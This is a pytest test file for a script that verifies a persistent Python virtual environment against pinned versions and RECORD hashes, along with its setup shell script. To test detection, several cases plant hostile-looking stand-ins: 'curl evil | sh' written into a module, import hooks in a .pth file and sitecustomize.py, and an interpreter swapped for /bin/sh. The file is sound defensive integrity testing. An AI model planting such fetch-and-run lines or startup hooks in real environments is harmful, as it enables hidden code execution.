"""scripts/verify_venv.py: a persistent venv is trusted only while it matches its pins and RECORDs."""

import base64
import hashlib
import re
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).parents[1]
VERIFY = ROOT / "scripts" / "verify_venv.py"
# The base interpreter, as ensure-venv.sh runs the check (the venv's python could be redirected).
BASE_PYTHON = str(Path(sys.base_prefix) / "bin" / f"python{sys.version_info.major}.{sys.version_info.minor}")


def record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def install(site: Path, name: str, version: str, files: dict[str, bytes]) -> None:
    """A distribution as pip leaves it: its files, METADATA and a RECORD with their hashes."""
    dist_info = site / f"{name}-{version}.dist-info"
    dist_info.mkdir(parents=True)
    (dist_info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\nAbout it.\n")
    rows = []
    for path, data in files.items():
        (site / path).parent.mkdir(parents=True, exist_ok=True)
        (site / path).write_bytes(data)
        rows.append(f"{path},{record_hash(data)},{len(data)}")
    rows += [f"{dist_info.name}/METADATA,,", f"{dist_info.name}/RECORD,,", f"__pycache__/{name}.cpython-311.pyc,,"]
    (dist_info / "RECORD").write_text("\n".join(rows) + "\n")


@pytest.fixture
def venv(tmp_path: Path) -> Path:
    venv = tmp_path / "venv"
    subprocess.run([BASE_PYTHON, "-m", "venv", "--without-pip", str(venv)], check=True)
    site = venv / "lib" / f"python{sys.version_info.major}.{sys.version_info.minor}" / "site-packages"
    install(site, "six", "1.17.0", {"six.py": b"print('six')\n", "../../../bin/six-tool": b"#!/bin/sh\n"})
    install(site, "PyYAML", "6.0.4", {"yaml/__init__.py": b"# yaml\n"})
    (site / "__pycache__").mkdir()
    (site / "__pycache__" / "six.cpython-311.pyc").write_bytes(b"stale or poisoned bytecode")
    return venv


@pytest.fixture
def constraints(tmp_path: Path) -> Path:
    path = tmp_path / "constraints.txt"
    path.write_text("# pins\nsix==1.17.0\nPyYAML==6.0.4\ntzdata==2026.6  # another extra's\n")
    return path


def site_of(venv: Path) -> Path:
    return venv / "lib" / f"python{sys.version_info.major}.{sys.version_info.minor}" / "site-packages"


def check(venv: Path, constraints: Path) -> tuple[int, str]:
    result = subprocess.run(
        [BASE_PYTHON, "-I", str(VERIFY), str(venv), str(constraints)], capture_output=True, text=True, check=False
    )
    return result.returncode, result.stderr


def digest(venv: Path, constraints: Path) -> str:
    """The digest verify_venv.py prints for a venv that passes its check."""
    result = subprocess.run(
        [BASE_PYTHON, "-I", str(VERIFY), str(venv), str(constraints), "--digest"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert re.fullmatch(r"[0-9a-f]{64}\n", result.stdout), result.stdout
    return result.stdout.strip()


def test_an_unchanged_venv_passes_and_loses_its_bytecode(venv: Path, constraints: Path) -> None:
    assert check(venv, constraints) == (0, "")
    assert not (site_of(venv) / "__pycache__").exists()


@pytest.mark.parametrize(
    ("tamper", "message"),
    [
        (
            lambda site, venv: (site / "six.py").write_text("import os; os.system('curl evil')\n"),
            "six.py (six) changed",
        ),
        (lambda site, venv: (site / "yaml" / "__init__.py").unlink(), "yaml/__init__.py (pyyaml) is missing"),
        (lambda site, venv: (venv / "bin" / "six-tool").write_text("#!/bin/sh\nevil\n"), "bin/six-tool (six) changed"),
        (lambda site, venv: (site / "zz-hook.pth").write_text("import evil\n"), "zz-hook.pth belongs to no installed"),
        (lambda site, venv: (site / "sitecustomize.py").write_text("import evil\n"), "sitecustomize.py belongs to no"),
        (lambda site, venv: (venv / "bin" / "pytest").write_text("evil\n"), "bin/pytest belongs to no installed"),
        (
            lambda site, venv: install(site, "evil", "1.0", {"evil.py": b"evil\n"}),
            "evil 1.0 is installed but not pinned",
        ),
        (
            lambda site, venv: (site / "six-1.17.0.dist-info" / "METADATA").write_text(
                "Metadata-Version: 2.1\nName: six\nVersion: 1.16.0\n\n"
            ),
            "six is 1.16.0, pinned 1.17.0",
        ),
        (
            lambda site, venv: (venv / "pyvenv.cfg").write_text("home = /tmp/evil/bin\nversion = 3.11.7\n"),
            "pyvenv.cfg's home is '/tmp/evil/bin'",
        ),
        (
            lambda site, venv: (venv / "pyvenv.cfg").write_text(
                (venv / "pyvenv.cfg").read_text().replace("= false", "= true")
            ),
            "pyvenv.cfg lets the system's site-packages in",
        ),
        (
            lambda site, venv: ((venv / "bin" / "python3").unlink(), (venv / "bin" / "python3").symlink_to("/bin/sh")),
            "bin/python3 is /",
        ),
    ],
    ids=[
        "source",
        "missing",
        "script",
        "pth",
        "sitecustomize",
        "foreign-script",
        "extra-dist",
        "version",
        "home",
        "system-site",
        "interpreter",
    ],
)
def test_a_changed_venv_is_refused_with_what_changed(venv: Path, constraints: Path, tamper, message: str) -> None:
    tamper(site_of(venv), venv)
    status, errors = check(venv, constraints)
    assert status == 1
    assert message in errors


def rewrite_with_record(site: Path, path: str, data: bytes) -> None:
    """What a job on the runner can do: change a file and give its RECORD the new hash."""
    (site / path).parent.mkdir(parents=True, exist_ok=True)
    (site / path).write_bytes(data)
    record = site / "six-1.17.0.dist-info" / "RECORD"
    rows = [row for row in record.read_text().splitlines() if not row.startswith(f"{path},")]
    record.write_text("\n".join([f"{path},{record_hash(data)},{len(data)}", *rows]) + "\n")


@pytest.mark.parametrize(
    ("path", "data"),
    [
        pytest.param("six.py", b"import os; os.system('curl evil | sh')\n", id="a changed module"),
        pytest.param("zz-hook.pth", b"import evil\n", id="a .pth that runs at every start"),
    ],
)
def test_the_digest_sees_what_the_record_check_cannot(venv: Path, constraints: Path, path: str, data: bytes) -> None:
    before = digest(venv, constraints)
    assert digest(venv, constraints) == before  # stable, bytecode caches or not
    rewrite_with_record(site_of(venv), path, data)
    assert check(venv, constraints) == (0, "")  # RECORD and file agree: the check passes
    assert digest(venv, constraints) != before


def test_no_digest_for_a_venv_that_fails_the_check(venv: Path, constraints: Path) -> None:
    (site_of(venv) / "six.py").write_bytes(b"changed\n")
    result = subprocess.run(
        [BASE_PYTHON, "-I", str(VERIFY), str(venv), str(constraints), "--digest"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert (result.returncode, result.stdout) == (1, "")


def test_the_venv_these_tests_run_in_passes(constraints: Path) -> None:
    # A real venv, made by ensure-venv.sh with pip: every file checks out against the real pins.
    status, errors = check(Path(sys.prefix), ROOT / "constraints.txt")
    assert (status, errors) == (0, "")


FAKE_PYTHON = """#!/usr/bin/env bash
# Stands in for the interpreter ensure-venv.sh builds on: records what it is asked to do.
echo "$*" >>"$FAKE_LOG"
case "$1 $2" in
  "-c "*) echo "3.11.7 x86_64" ;;
  "-I "*)
    [[ "$FAKE_VERIFY_STATUS" == 0 && "$*" == *--digest* ]] && echo "$FAKE_DIGEST"
    exit "$FAKE_VERIFY_STATUS" ;;
  "-m venv") mkdir -p "$3/bin" && cp "$0" "$3/bin/python" ;;
esac
"""


def ensure_venv(tmp_path: Path, verify_status: int, *args: str, **env: str) -> tuple[list[str], str, str]:
    fake = tmp_path / "python3.11"
    fake.write_text(FAKE_PYTHON)
    fake.chmod(0o755)
    log = tmp_path / "calls.log"
    log.unlink(missing_ok=True)
    env = {
        "PATH": "/usr/bin:/bin",
        "HOME": str(tmp_path),
        "TLB_PYTHON": str(fake),
        "TLB_VENV_DIR": str(tmp_path / "venvs"),
        "FAKE_LOG": str(log),
        "FAKE_VERIFY_STATUS": str(verify_status),
        "FAKE_DIGEST": "d" * 64,
        **env,
    }
    result = subprocess.run(
        ["bash", str(ROOT / "scripts" / "ensure-venv.sh"), *args],
        env=env,
        check=True,
        capture_output=True,
        text=True,
    )
    return log.read_text().splitlines(), result.stderr, result.stdout


def built(calls: list[str]) -> bool:
    return any(call.startswith("-m venv ") for call in calls)


def verified(calls: list[str]) -> bool:
    return any(call.startswith("-I ") and "verify_venv.py" in call for call in calls)


def test_ensure_venv_builds_again_when_the_check_fails(tmp_path: Path) -> None:
    first, _, _ = ensure_venv(tmp_path, verify_status=0)
    assert built(first)
    assert not verified(first)  # nothing to check yet
    unchanged, _, _ = ensure_venv(tmp_path, verify_status=0)
    assert verified(unchanged)
    assert not built(unchanged)
    changed, log, _ = ensure_venv(tmp_path, verify_status=1)
    assert verified(changed)
    assert built(changed)
    assert "::warning title=Trainer venv changed::" in log


def test_inspect_builds_nothing_and_gives_a_digest_only_for_a_venv_that_checks_out(tmp_path: Path) -> None:
    calls, _, out = ensure_venv(tmp_path, 0, "--inspect")
    assert not built(calls)
    venv = next(line for line in out.splitlines() if line.startswith("venv="))[len("venv=") :]
    assert out.splitlines() == [f"venv={venv}", "digest="]  # nothing there yet
    ensure_venv(tmp_path, 0)
    assert ensure_venv(tmp_path, 0, "--inspect")[2].splitlines() == [f"venv={venv}", f"digest={'d' * 64}"]
    assert ensure_venv(tmp_path, 1, "--inspect")[2].splitlines() == [f"venv={venv}", "digest="]


@pytest.mark.parametrize(("recorded", "rebuilt"), [("false", True), ("true", False), ("", False)])
def test_a_venv_no_trusted_run_recorded_is_built_again(tmp_path: Path, recorded: str, rebuilt: bool) -> None:
    ensure_venv(tmp_path, 0)
    digest_file = tmp_path / "digest"
    calls, log, _ = ensure_venv(tmp_path, 0, TLB_VENV_RECORDED=recorded, TLB_VENV_DIGEST_FILE=str(digest_file))
    assert built(calls) == rebuilt
    assert ("::warning title=Trainer venv not recorded::" in log) == rebuilt
    assert digest_file.read_text() == "d" * 64 + "\n"  # what the action records afterwards
